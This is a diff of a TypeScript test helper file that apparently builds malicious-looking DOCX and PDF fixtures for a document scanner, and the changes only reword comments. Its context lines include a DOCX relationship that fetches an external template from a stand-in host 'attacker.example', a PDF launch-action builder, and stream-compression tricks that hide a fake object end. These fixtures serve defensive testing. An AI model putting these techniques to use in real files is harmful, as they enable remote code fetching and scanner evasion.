@@ -57,7 +57,10 @@ const relationship = (type: string, target: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
 const MEANINGS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const FETCHED = `Type="${MEANINGS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"`;
-/** Creates a DOCX whose settings contain a relationship with these attributes. */
+/**
+ * Returns a function that creates a DOCX with a relationship that has these attributes, such as an
+ * external template.
+ */
 const related = (attributes: string) => () =>
   relatedBy(`<Relationships><Relationship Id="r" ${attributes}/></Relationships>`);
 const relatedBy = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx([{ name, content }]);
@@ -71,7 +74,7 @@ const launching =
     return makePdf({ objects: [Buffer.concat([Buffer.from(before), list])] });
   };
 const inHexadecimal = (content: Buffer) => Buffer.from(`${content.toString('hex')}>`);
-/** Compresses with a PNG predictor, as most PDF writers do for pictures. */
+/** Compresses PDF stream content with the PNG predictor, as most PDF writers do for pictures. */
 function inLines(content: Buffer): Buffer {
   const lines = Array.from({ length: Math.ceil(content.length / 4) }, (_, line) => [
     2,
@@ -80,7 +83,7 @@ function inLines(content: Buffer): Buffer {
   return deflateSync(Buffer.from(lines.flat()));
 }
 /**
- * Compresses the content, but inserts an uncompressed part that looks like the end of the object.
+ * Compresses PDF stream content, with an uncompressed block that looks like the end of the object.
  */
 function withEarlyEnd(content: Buffer): Buffer {
   const plain = Buffer.concat([content.subarray(0, 8), Buffer.from('%endstream endobj\n')]);
